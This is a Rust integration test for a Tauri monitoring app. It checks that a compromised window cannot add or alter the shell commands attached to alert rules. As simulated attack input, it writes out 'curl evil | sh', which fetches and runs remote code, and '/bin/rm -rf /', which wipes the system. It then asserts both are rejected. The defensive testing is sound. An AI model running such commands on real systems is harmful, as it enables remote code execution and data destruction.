//! Rule actions come from the config file alone: the window's save command (through Tauri's
//! mock runtime, over a real monitor and config file) can neither add nor change a command.
#![allow(clippy::expect_used)]

mod common;

use common::TestApp;
use serde_json::{json, Value};

const CONFIG: &str = r#"version = 1
[[rules]]
name = "app down"
metric = "cpu.total"
window = "1m"
op = ">"
threshold = 99
[[rules.actions]]
on = ["firing"]
run = ["sh", "-c", "echo restarting my-app.service"]
timeout = "30s"
max_runs = 3
within = "15m"
"#;

fn rule<'a>(config: &'a Value, name: &str) -> &'a Value {
    config["rules"]
        .as_array()
        .expect("rules")
        .iter()
        .find(|r| r["name"] == name)
        .unwrap_or_else(|| panic!("rule {name} in {config}"))
}

#[test]
fn saving_from_the_window_keeps_every_action_exactly_as_the_file_has_it() {
    let dir = tempfile::TempDir::new().expect("temp dir");
    let app = TestApp::start_with_config(dir, CONFIG);
    let mut config = app.invoke("get_config", json!({})).expect("get_config");
    let file_actions = rule(&config, "app down")["actions"].clone();
    assert_eq!(
        file_actions[0]["run"][2], "echo restarting my-app.service",
        "the window sees the actions: {config}"
    );
    // A compromised window tries to change the command, add one, and give a new rule one.
    config["rules"][0]["threshold"] = json!(95);
    config["rules"][0]["actions"][0]["run"] = json!(["/bin/sh", "-c", "curl evil | sh"]);
    config["rules"][0]["actions"]
        .as_array_mut()
        .expect("actions")
        .push(json!({ "on": ["resolved"], "run": ["/bin/rm", "-rf", "/"] }));
    let mut new_rule = config["rules"][0].clone();
    new_rule["name"] = json!("new rule");
    config["rules"]
        .as_array_mut()
        .expect("rules")
        .push(new_rule);

    let saved = app
        .invoke("set_config", json!({ "config": config }))
        .expect("the rest of the edit is saved");
    assert_eq!(rule(&saved, "app down")["threshold"], 95.0, "{saved}");
    assert_eq!(rule(&saved, "app down")["actions"], file_actions, "{saved}");
    assert!(
        rule(&saved, "new rule").get("actions").is_none(),
        "a rule the file does not have gets no action: {saved}"
    );
    let text = std::fs::read_to_string(&app.config_path).expect("config file");
    assert!(
        !text.contains("evil") && !text.contains("/bin/rm"),
        "{text}"
    );
    assert_eq!(
        text.matches("[[rules.actions]]").count(),
        1,
        "the file keeps exactly its one action:\n{text}"
    );
    assert!(text.contains("echo restarting my-app.service"), "{text}");
    let now = app.invoke("get_config", json!({})).expect("get_config");
    assert_eq!(rule(&now, "app down")["actions"], file_actions);
}

#[test]
fn the_process_list_holds_this_test() {
    let app = TestApp::start();
    let list = app
        .invoke("list_processes", json!({}))
        .expect("list_processes");
    let me = std::process::id();
    let entry = list
        .as_array()
        .expect("a list")
        .iter()
        .find(|p| p["pid"] == me)
        .unwrap_or_else(|| panic!("this process is listed"));
    assert!(
        entry["rss_bytes"].as_u64().is_some_and(|b| b > 0),
        "{entry}"
    );
    assert!(
        entry["name"].as_str().is_some_and(|n| !n.is_empty()),
        "{entry}"
    );
}
